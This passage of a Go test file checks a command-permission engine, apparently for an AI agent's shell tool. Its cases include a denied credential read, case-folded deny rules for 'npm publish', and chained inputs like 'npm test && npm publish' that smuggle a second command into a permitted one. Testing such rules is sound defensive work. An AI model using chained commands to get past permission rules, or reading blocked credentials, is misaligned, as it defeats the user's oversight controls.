		t.Fatalf("allowed read under a tighten-only ask: %+v", d)
	}
	if d := (permission.Engine{}).Check(cred); d.Decision != permission.Deny || d.Rule != nil {
		t.Fatalf("credential read under a tighten-only ask: %+v", d)
	}
}

// TestCommandRuleIndex: rules found through the command-prefix tree decide
// exactly as before, case folding of deny and ask rules included.
func TestCommandRuleIndex(t *testing.T) {
	t.Parallel()
	var rules []permission.Rule
	for i := range 300 {
		rules = append(rules, permission.Rule{ID: fmt.Sprintf("task-%d", i), Level: permission.LevelUser,
			Tool: "shell", Command: fmt.Sprintf("npm run task-%d", i), Decision: permission.Allow})
	}
	rules = append(rules,
		permission.Rule{ID: "no-publish", Level: permission.LevelUser, Tool: "shell", Command: "NPM publish", Decision: permission.Deny},
		permission.Rule{ID: "npm-test", Level: permission.LevelUser, Tool: "shell", Command: "npm test", Decision: permission.Allow},
		permission.Rule{ID: "ask-git-push", Level: permission.LevelUser, Tool: "shell", Command: "git push", Decision: permission.Ask},
	)
	pol, err := permission.Compile(rules)
	if err != nil {
		t.Fatal(err)
	}
	shell, _ := permission.Builtin("shell")
	tests := []struct {
		cmd  string
		want permission.Verdict
		rule string // prefix of the matching rule's id, "" for none
	}{
		{"npm test -- --watch=false", permission.Allow, "npm-test"},
		{"npm publish", permission.Deny, "no-publish"},
		{"NPM PUBLISH --tag next", permission.Deny, "no-publish"},
		{"npm test && npm publish", permission.Deny, "no-publish"},
		{"git push origin main", permission.Ask, "ask-git-push"},
		{"npm run task-299 --silent", permission.Allow, "task-299"},
		{"npm run task-29 && npm run task-299", permission.Ask, ""},
		{"npm testx", permission.Ask, ""},
		{"ls && npm test", permission.Ask, ""},
	}
	for _, tc := range tests {
		d := (permission.Engine{}).Check(permission.Request{Tool: shell, Args: map[string]any{"command": tc.cmd}, Cwd: testCwd, Home: testHome, Policy: pol})
		got := ""
		if d.Rule != nil {
			got = d.Rule.ID
		}
		if d.Decision != tc.want || got != tc.rule {
			t.Errorf("%q: %s by %q, want %s by %q (%s)", tc.cmd, d.Decision, got, tc.want, tc.rule, d.Reason)
		}
	}
}
